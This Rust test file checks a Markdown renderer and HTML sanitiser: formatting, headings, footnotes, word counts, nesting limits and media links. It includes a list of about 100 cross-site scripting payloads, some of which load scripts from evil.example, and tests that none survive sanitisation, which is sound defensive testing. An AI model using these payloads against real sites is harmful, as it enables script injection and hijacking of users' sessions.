//! What comes out of good texts, and what never comes out of bad ones.

use super::*;

fn html(body: &str) -> String {
    render(body).html
}

#[test]
fn markdown_of_every_kind() {
    for (body, want) in [
        (
            "*a* **b** `c`",
            "<p><em>a</em> <strong>b</strong> <code>c</code></p>\n",
        ),
        ("~~gone~~", "<p><del>gone</del></p>\n"),
        (
            "[a](https://x.org/?a=1&b=2 \"t\")",
            "<p><a href=\"https://x.org/?a=1&amp;b=2\" title=\"t\" rel=\"noopener noreferrer nofollow\">a</a></p>\n",
        ),
        (
            "see www.x.org",
            "<p>see <a href=\"http://www.x.org\" rel=\"noopener noreferrer nofollow\">www.x.org</a></p>\n",
        ),
        (
            "![alt](/a.png)",
            "<p><img src=\"/a.png\" alt=\"alt\"></p>\n",
        ),
        (
            "```rust\nlet a = 1 < 2;\n```",
            "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>\n",
        ),
        (
            "- [x] done\n- [ ] open",
            "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n\
             <li><input disabled=\"\" type=\"checkbox\"> open</li>\n</ul>\n",
        ),
        (
            "|a|b|\n|-|:-:|\n|1|2|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"center\">b</th>\n</tr>\n</thead>\n\
             <tbody>\n<tr>\n<td>1</td>\n<td align=\"center\">2</td>\n</tr>\n</tbody>\n</table>\n",
        ),
        ("a<br>b <kbd>C</kbd>", "<p>a<br>b <kbd>C</kbd></p>\n"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>\n"),
        ("", ""),
    ] {
        assert_eq!(
            attributes_sorted(&html(body)),
            attributes_sorted(want),
            "{body}"
        );
    }
}

/// The sanitiser gives attributes in no fixed order.
fn attributes_sorted(html: &str) -> Vec<String> {
    html.split('<')
        .map(|part| {
            let (tag, rest) = part.split_once('>').unwrap_or(("", part));
            let mut attributes: Vec<&str> = tag.split("\" ").flat_map(|it| it.split(' ')).collect();
            attributes
                .iter_mut()
                .for_each(|it| *it = it.trim_end_matches('"'));
            attributes.sort_unstable();
            format!("{attributes:?}{rest}")
        })
        .collect()
}

#[test]
fn contents_lead_to_headings() {
    let body = "# Ebb & *flow*\n\ntext\n\n## Größe\n\n> ### Größe\n\nSetext `code`\n---\n\n<h2 id=\"s-raw\">raw</h2>\n";
    let rendered = render(body);
    let lines: Vec<(u8, &str, &str)> = rendered
        .toc
        .iter()
        .map(|it| (it.level, it.text.as_str(), it.anchor.as_str()))
        .collect();
    assert_eq!(
        lines,
        [
            (1, "Ebb & flow", "s-ebb--flow"),
            (2, "Größe", "s-größe"),
            (3, "Größe", "s-größe-1"),
            (2, "Setext code", "s-setext-code"),
        ]
    );
    for heading in &rendered.toc {
        let id = format!("id=\"{}\"", heading.anchor);
        assert_eq!(
            rendered.html.matches(&id).count(),
            1,
            "{id}: {}",
            rendered.html
        );
    }
}

#[test]
fn footnotes_lead_there_and_back() {
    let html = html("a[^1]\n\n[^1]: note");
    for part in [
        "href=\"#fn-1\"",
        "id=\"fnref-1\"",
        "id=\"fn-1\"",
        "href=\"#fnref-1\"",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}

#[test]
fn words_and_minutes() {
    let long = "word ".repeat(231);
    for (body, words, reading_minutes) in [
        ("", 0, 0),
        ("# One\n\ntwo *three*, don't!", 4, 1),
        ("[text](https://a-long-address.example/x/y)", 1, 1),
        ("<div class=\"a b c\">\n\none\n\n</div>", 1, 1),
        ("潮汐", 2, 1),
        ("`let a` and\n\n    b c", 5, 1),
        (long.as_str(), 231, 2),
    ] {
        let want = Stats {
            words,
            reading_minutes,
        };
        assert_eq!(render(body).stats, want, "{body}");
    }
}

/// Attacks that work somewhere. Whatever becomes of the text, nothing in it may run, load a frame or
/// take a name of the page's.
const ATTACKS: &[&str] = &[
    // Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<script>a=/<!--/;alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\"></noscript>",
    // Handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio><source onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=x onclick=alert(1)>x</a>",
    "<p style=\"x\" onanimationstart=alert(1)>x</p>",
    // Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](livescript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<area href=\"javascript:alert(1)\">",
    // Other languages and frames
    "<svg onload=alert(1)>",
    "<svg><a href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<portal src=//evil.example></portal>",
    // What changes the page
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a id=\"location\" class=\"admin\">x</a>",
    "<h1 id=\"cookie\">x</h1>",
    "<input type=password name=p value=x>",
    // Broken, nested, and in disguise
    "<img src=x onerror=alert(1)//",
    "<a href=\"x\" title='\"onmouseover=alert(1) '>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```html\" onmouseover=alert(1) x=\"\n<script>alert(1)</script>\n```",
    "```language-x\"><script>alert(1)</script>\ny\n```",
    "[x](https://x.org \"a\\\" onmouseover=alert(1) b\")",
    "![\"><script>alert(1)</script>](x)",
    "# \"><script>alert(1)</script>",
    "# x\" onmouseover=\"alert(1)",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "<b/<script>alert(1)</script>",
    "<div\n\nonclick=alert(1)>x</div>",
    "<\u{0}script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
];

#[test]
fn nothing_harmful_comes_out() {
    assert!(ATTACKS.len() >= 80);
    for attack in ATTACKS {
        let html = html(attack);
        for tag in tags(&html) {
            check_tag(&tag, attack, &html);
        }
    }
}

/// What stands between `<` and `>`: the sanitiser writes no `<` that begins no tag, and escapes
/// quotes in attributes.
fn tags(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start + 1..];
        let mut is_quoted = false;
        let end = tag.find(|c| {
            is_quoted ^= c == '"';
            c == '>' && !is_quoted
        });
        let end = end.unwrap_or_else(|| panic!("a tag has no end: {html}"));
        tags.push(tag[..end].to_owned());
        rest = &tag[end..];
    }
    tags
}

fn check_tag(tag: &str, attack: &str, html: &str) {
    let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
    let allowed = [
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "del",
        "details",
        "div",
        "em",
        "h1",
        "hr",
        "img",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "q",
        "section",
        "strong",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    assert!(
        allowed.contains(&name.trim_start_matches('/')),
        "<{name}> of {attack:?}: {html}"
    );
    for attribute in attributes
        .split_inclusive('"')
        .collect::<Vec<_>>()
        .chunks(2)
    {
        let [key, value] = attribute else {
            panic!("an attribute of {attack:?} is not quoted: {html}");
        };
        let key = key.trim().trim_end_matches("=\"");
        let value = value.trim_end_matches('"');
        let is_fine = match key {
            "href" | "src" => {
                let is_web = ["http://", "https://", "mailto:", "#"]
                    .iter()
                    .any(|start| value.starts_with(start));
                // Without a scheme it is of the page's own site.
                is_web
                    || !value
                        .split(['/', '?', '#'])
                        .next()
                        .unwrap_or("")
                        .contains(':')
            }
            "id" => value.starts_with("s-") || value.starts_with("fn"),
            "class" => {
                value.starts_with("language-") || value == "anchor" || value.starts_with("footnote")
            }
            "type" => value == "checkbox",
            "align" | "alt" | "aria-label" | "checked" | "disabled" | "rel" | "title" => true,
            _ => false,
        };
        assert!(is_fine, "{key}={value:?} of {attack:?}: {html}");
    }
}

/// Nothing overflows the stack, which would end the process: each on a thread as small as those
/// that do blocking work.
#[test]
fn deep_nesting_is_survived() {
    for (open, close) in [
        (">", ""),
        ("- ", ""),
        ("*a **b ", ""),
        ("[", "](x)"),
        ("![", "](x)"),
        ("<div>", "</div>"),
        ("<b>", ""),
        ("<table><tr><td>", ""),
        ("`", ""),
    ] {
        let body = format!("{}x{}", open.repeat(5_000), close.repeat(5_000));
        let thread = std::thread::Builder::new().stack_size(2 << 20);
        let rendered = thread.spawn(move || html(&body)).unwrap().join();
        assert!(rendered.is_ok(), "{open:?}");
    }
}

/// Each is small, and would take minutes or gigabytes without bounds.
#[test]
fn heavy_texts_are_shown_as_they_were_typed() {
    let bold: String = (0..400)
        .map(|number| format!("<b title={number}>"))
        .collect();
    for (body, start) in [
        (">".repeat(10_000) + "x", "<pre>&gt;&gt;"),
        ("<div>".repeat(10_000), "&lt;div&gt;"),
        ("<DIV>\n".repeat(20_000), "&lt;DIV&gt;"),
        (
            format!("x{bold}\n\n{}", "y\n\n".repeat(20_000)),
            "<p>x&lt;b title=0&gt;",
        ),
    ] {
        let html = html(&body);
        let escaped = html.replace("&#32;", " ").replace("&#61;", "=");
        assert!(escaped.starts_with(start), "{}", &html[..80]);
    }
    let modest = "<b>x</b>\n\n".repeat(200);
    assert!(html(&modest).starts_with("<p><b>x</b></p>"));
}

#[test]
fn files_are_shown_where_they_are_and_else_their_words_stay() {
    let id = "med_01J9ZQ7Y0Z5N8C4V2M6K3H1R0P";
    let body = format!(
        "![Own *one*](media:{id}) ![small](media:{id}?variant=thumbnail) [link](media:{id})\n\n\
         ![gone **away**](media:med_01J9ZQ7Y0Z5N8C4V2M6K3H1R0Q) ![odd](media:../x) `media:{id}`\n\n\
         [![inside](media:{id})](https://example.org)"
    );
    let found = media_in(&body, 10);
    let addresses: Vec<&str> = found.iter().map(|it| it.address.as_str()).collect();
    let plain = format!("media:{id}");
    let small = format!("media:{id}?variant=thumbnail");
    let gone = "media:med_01J9ZQ7Y0Z5N8C4V2M6K3H1R0Q";
    assert_eq!(addresses, [plain.as_str(), &small, gone]);
    assert_eq!(media_in(&body, 1).len(), 1);
    let shown = [
        (plain, "https://x/a?b=1&c=2".to_owned()),
        (small, "/v1/small".to_owned()),
    ];
    let html = render_with(&body, &shown.into_iter().collect()).html;
    assert_eq!(
        html.matches("src=\"https://x/a?b=1&amp;c=2\"").count(),
        2,
        "{html}"
    );
    assert_eq!(
        html.matches("href=\"https://x/a?b=1&amp;c=2\"").count(),
        1,
        "{html}"
    );
    assert!(html.contains("src=\"/v1/small\" alt=\"small\""), "{html}");
    assert!(
        html.contains("gone <strong>away</strong> odd <code>media:med_"),
        "{html}"
    );
    assert_eq!(html.matches("media:").count(), 1, "{html}");
    // Without any, the words alone.
    let html = render(&body).html;
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("Own <em>one</em> small link"), "{html}");
}
